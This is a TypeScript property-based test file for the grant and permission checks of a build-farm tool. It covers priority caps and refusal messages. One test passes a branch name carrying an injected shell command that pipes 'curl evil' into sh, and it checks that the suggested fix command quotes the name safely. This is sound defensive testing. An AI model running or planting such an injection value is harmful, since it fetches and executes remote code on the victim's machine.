import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { Verb } from "#core/verb.ts";
import { everybody, type Grant, type Principal, wholeFarm } from "./principal.ts";
import { priorityCapOf } from "./priority-cap.ts";
import { mayDo, requireGrant } from "./require-grant.ts";

const verbs = fc.constantFrom(...Verb.options);
const pattern = fc.constantFrom("*", "main", "rel*", "*-rc", "", "r*s", "**");
const name = fc.constantFrom("main", "release", "v1-rc", "", "rs", "rxjs");
const where = fc.record({ repository: name, branch: name });
const grant: fc.Arbitrary<Grant> = fc.record({
  verb: fc.oneof(verbs, fc.constant("*" as const)),
  repository: pattern,
  branch: pattern,
  priorityCap: fc.option(fc.integer({ min: -1_000, max: 1_000 })),
  top: fc.boolean(),
});
const grants = fc.array(grant, { maxLength: 6 });
const alice = (held: readonly Grant[]): Principal => ({ name: "alice", grants: held });
const orInfinity = (cap: number | null) => cap ?? Number.POSITIVE_INFINITY;

test("one grant more never takes a right, a priority or the top class away", () => {
  fc.assert(
    fc.property(grants, grant, fc.nat(6), verbs, where, (held, more, at, verb, place) => {
      const before = alice(held);
      const after = alice(held.toSpliced(at, 0, more));

      expect(mayDo(after, verb, place) || !mayDo(before, verb, place)).toBe(true);
      const [less, cap] = [priorityCapOf(before, place), priorityCapOf(after, place)];
      expect(orInfinity(cap.cap)).toBeGreaterThanOrEqual(orInfinity(less.cap));
      expect(cap.top || !less.top).toBe(true);
    }),
  );
});

test("the order of grants says nothing", () => {
  fc.assert(
    fc.property(grants, verbs, where, (held, verb, place) => {
      const [one, other] = [alice(held), alice(held.toReversed())];

      expect(mayDo(one, verb, place)).toBe(mayDo(other, verb, place));
      expect(priorityCapOf(one, place)).toEqual(priorityCapOf(other, place));
    }),
  );
});

test("without a grant nothing may be done, and everybody may do everything", () => {
  fc.assert(
    fc.property(verbs, where, (verb, place) => {
      expect(mayDo(alice([]), verb, place)).toBe(false);
      expect(mayDo(everybody, verb, place)).toBe(true);
      expect(priorityCapOf(everybody, place)).toEqual({ cap: null, top: true });
    }),
  );
});

describe("the priority cap", () => {
  const on = { repository: "rxjs", branch: "main" };
  const one: Grant = { verb: "submit", repository: "*", branch: "*", priorityCap: 5, top: false };

  test.each<[string, Grant[], number | null]>([
    ["is the highest of all that hold there", [one, { ...one, priorityCap: 20 }], 20],
    ["is none where one of them has none", [one, { ...one, priorityCap: null }], null],
    [
      "is not raised by a grant for another branch",
      [one, { ...one, branch: "try", priorityCap: 9 }],
      5,
    ],
    ["is not raised by a grant to cancel", [one, { ...one, verb: "cancel", priorityCap: null }], 5],
    ["is the lowest priority for who has no grant", [], -1_000],
  ])("%s", (_, held, expected) => {
    expect(priorityCapOf(alice(held), on).cap).toBe(expected);
  });
});

describe("a refusal", () => {
  test("names who, what and where, and the grant that is missing", () => {
    expect(() =>
      requireGrant(alice([]), "customise", { repository: "rxjs", branch: "release" }),
    ).toThrow(
      "alice may not customise on release of rxjs: ask an administrator of the farm to run " +
        "`grange grant add alice customise --repository rxjs --branch release`",
    );
  });

  test("for a caller without a token says that a token may help", () => {
    expect(() => requireGrant({ name: "anyone", grants: [] }, "administer", wholeFarm)).toThrow(
      "a caller without a token may not administer on this farm: send one (GRANGE_TOKEN), or ask",
    );
  });

  test("of a worker that sends no token names what workers read", () => {
    expect(() => requireGrant({ name: "anyone", grants: [] }, "work", wholeFarm)).toThrow(
      "send one (GRANGE_WORKER_TOKEN, or --enrol), or ask",
    );
  });

  test("names no command that would let everybody administer", () => {
    expect(() => requireGrant({ name: "anyone", grants: [] }, "administer", wholeFarm)).toThrow(
      "`grange grant add NAME administer`",
    );
  });

  test("quotes what a stranger called his branch", () => {
    expect(() =>
      requireGrant(alice([]), "submit", { repository: "rxjs", branch: "x';curl evil|sh" }),
    ).toThrow("--branch 'x'\\'';curl evil|sh'`");
  });

  test("of the whole farm holds for who may do it in one repository only", () => {
    const there: Grant = {
      verb: "administer",
      repository: "rxjs",
      branch: "*",
      priorityCap: null,
      top: false,
    };

    expect(mayDo(alice([there]), "administer", wholeFarm)).toBe(false);
    expect(mayDo(alice([{ ...there, repository: "*" }]), "administer", wholeFarm)).toBe(true);
  });
});
